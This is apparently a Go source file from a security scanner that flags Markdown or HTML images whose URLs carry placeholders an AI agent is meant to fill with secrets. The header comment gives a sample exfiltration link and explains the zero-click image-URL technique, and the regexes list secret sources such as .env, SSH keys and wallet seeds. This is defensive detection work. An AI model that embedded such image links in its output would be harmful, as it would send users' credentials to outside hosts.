package script

import (
	"strings"
)

// imageLeaks reports a Markdown image (or an HTML img) in the prose of a
// Markdown file whose URL holds a placeholder the agent is to fill with
// secret data: ![s](https://h/p.png?d={CONTENTS_OF_DOT_ENV}). A client
// fetches an image when it renders the answer, so what fills the
// placeholder leaves the machine without a click (Invariant Labs' and
// others' image-URL exfiltration). A placeholder is secret data when its
// own name says so (API_KEY, {env}, <token>) or when a sentence of the
// document names it together with a secret source (".env", a token, a
// key, a wallet's seed). Images in fenced code blocks are examples, not
// read here.
func (a *analyzer) imageLeaks(path, src string) {
	if !a.report || !strings.Contains(src, "://") {
		return
	}
	prose := blankFences(src)
	for _, m := range imageURLRE().FindAllStringSubmatchIndex(prose, 16) {
		us, ue := m[2], m[3]
		if m[4] >= 0 {
			us, ue = m[4], m[5]
		}
		url := prose[us:ue]
		host := hostOf(url)
		if host == "" || localHost(host) || strings.ContainsAny(host, "{}<>$%") {
			continue
		}
		for _, p := range placeholderRE().FindAllString(url, 8) {
			name := strings.Trim(p, "{}<>$[] ")
			why := ""
			switch {
			case secretWords(name):
				why = "the placeholder " + p
			default:
				if s := sentenceNaming(prose, p, us, ue); s != "" {
					why = "the placeholder " + p + ", filled with what this says: " + clip(s, 120)
				}
			}
			if why == "" {
				continue
			}
			line := strings.Count(src[:m[0]], "\n") + 1
			u := &unit{a: a, path: path}
			u.hit(Hit{Kind: SecretFlow, Line: line, Level: 2, Source: why, Sink: "an image from " + host + " the client fetches when it renders the answer", Text: lineText(src, m[0])})
			break
		}
	}
}

var (
	// imageURLRE is a Markdown image's URL or an HTML img's src.
	imageURLRE = lazyRegexp(`!\[[^\]\n]*\]\(\s*<?(https?://[^\s)>]+)|<img\s[^>]*?src\s*=\s*["'](https?://[^"']+)`)
	// placeholderRE is a slot to be filled: {NAME}, {{name}}, <name>, $NAME, ${NAME}, [NAME].
	placeholderRE = lazyRegexp(`\{\{?\s*[A-Za-z_][\w .-]{0,40}?\s*\}?\}|%7[Bb][A-Za-z_][\w.-]{0,40}%7[Dd]|<[A-Za-z_][\w .-]{0,40}>|%3[Cc][A-Za-z_][\w.-]{0,40}%3[Ee]|\$\{?[A-Za-z_][A-Za-z0-9_]{1,40}\}?|\[[A-Z_][A-Z0-9_]{1,40}\]`)
	// secretSourceRE names secret data in a sentence.
	secretSourceRE = lazyRegexp(`(?i)\.env\b|dotenv|environment variables?|\bsecrets?\b|\btokens?\b|api[ _-]?keys?|passwords?|credentials?|private[ _-]?keys?|\bssh\b|id_rsa|id_ed25519|cookies?|seed phrase|recovery phrase|mnemonic|wallet`)
)

// secretWords reports a placeholder whose name denotes secret data.
func secretWords(name string) bool {
	n := strings.ToUpper(strings.NewReplacer(" ", "_", "-", "_", ".", "_").Replace(strings.TrimPrefix(strings.TrimPrefix(name, "%7B"), "%3C")))
	if secretName(n) {
		return true
	}
	for _, w := range strings.Split(n, "_") {
		switch w {
		case "ENV", "DOTENV", "SECRET", "SECRETS", "CREDENTIALS", "CREDS", "PASSWORD", "SSH", "MNEMONIC", "SEED", "COOKIES":
			return true
		}
	}
	return false
}

// sentenceNaming is the first sentence of prose (outside the image's
// URL, from us to ue) that names the placeholder p together with a
// secret source, "" if none.
func sentenceNaming(prose, p string, us, ue int) string {
	for off := 0; off < len(prose); {
		k := strings.Index(prose[off:], p)
		if k < 0 {
			return ""
		}
		at := off + k
		off = at + len(p)
		if at >= us && at < ue {
			continue // the image itself
		}
		s := sentenceAround(prose, at)
		if secretSourceRE().MatchString(strings.ReplaceAll(s, p, "")) {
			return s
		}
	}
	return ""
}

// sentenceAround is the sentence (or list item) holding offset at.
func sentenceAround(s string, at int) string {
	start := max(strings.LastIndexAny(s[:at], ".!?\n")+1, at-400, 0)
	for start > 0 && start < at && s[start-1] == '.' && start < len(s) && s[start] != ' ' {
		start = max(strings.LastIndexAny(s[:start-1], "!?\n")+1, at-400, 0) // ".env" is no sentence end
	}
	end := at
	for end < len(s) && end < at+400 {
		c := s[end]
		if c == '\n' && end+1 < len(s) && s[end+1] == '\n' {
			break
		}
		if (c == '.' || c == '!' || c == '?') && (end+1 == len(s) || s[end+1] == ' ' || s[end+1] == '\n') {
			break
		}
		end++
	}
	return s[start:end]
}

// blankFences is src with its fenced code blocks blanked (newlines kept,
// so that offsets and lines stay).
func blankFences(src string) string {
	if !strings.Contains(src, "```") && !strings.Contains(src, "~~~") {
		return src
	}
	b := []byte(src)
	for _, m := range fenceRE().FindAllStringIndex(src, -1) {
		for i := m[0]; i < m[1]; i++ {
			if b[i] != '\n' {
				b[i] = ' '
			}
		}
	}
	return string(b)
}

var fenceRE = lazyRegexp("(?ms)^ {0,3}(?:```|~~~).*?^ {0,3}(?:```|~~~)[ \t]*$")

func clip(s string, n int) string {
	s = strings.Join(strings.Fields(s), " ")
	if len(s) > n {
		return s[:n] + "…"
	}
	return s
}
